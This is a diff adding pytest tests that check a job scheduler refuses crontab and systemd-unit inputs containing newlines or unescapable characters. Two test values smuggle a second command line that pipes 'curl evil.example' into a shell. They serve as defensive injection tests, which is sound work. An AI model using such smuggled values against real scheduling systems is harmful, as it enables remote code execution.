@@ -150,6 +150,24 @@ def test_crontab_line_escapes_percent_which_cron_reads_as_newline():
     assert line.endswith(r"0 2 * * * /usr/bin/python /jobs/100\%.yaml >> /tmp/log 2>&1")
 
 
+@pytest.mark.parametrize("word", ["/srv/jobs\n* * * * * curl evil.example | sh", "/srv/a\rb", "/srv/50\\%.yaml"])
+@pytest.mark.parametrize("where", ["command", "log", "workdir"])
+def test_crontab_line_refuses_what_cron_cannot_be_told(word, where):
+    """A newline starts a second entry; cron has no way to write a backslash before '%'."""
+    place = {"command": (["/usr/bin/python", word], "/tmp/log", "/tmp"), "log": (["/usr/bin/python"], word, "/tmp"),
+             "workdir": (["/usr/bin/python"], "/tmp/log", word)}[where]
+    with pytest.raises(InputError, match=re.escape(f"cannot write {word!r} into a crontab line")):
+        crontab_line(Schedule.parse("0 2 * * *", "UTC"), place[0], place[1], workdir=place[2])
+
+
+@pytest.mark.parametrize("where", ["command", "workdir"])
+def test_systemd_units_refuse_a_newline(where):
+    word = "/srv/jobs\nExecStartPre=/bin/sh -c 'curl evil.example | sh'"
+    command, workdir = (["/bin/true", word], "/tmp") if where == "command" else (["/bin/true"], word)
+    with pytest.raises(InputError, match="into a systemd unit: it holds a control character"):
+        systemd_units(Schedule.parse("0 2 * * *", "UTC"), "job", command, workdir)
+
+
 @pytest.mark.parametrize(
     ("cron", "calendar"),
     [
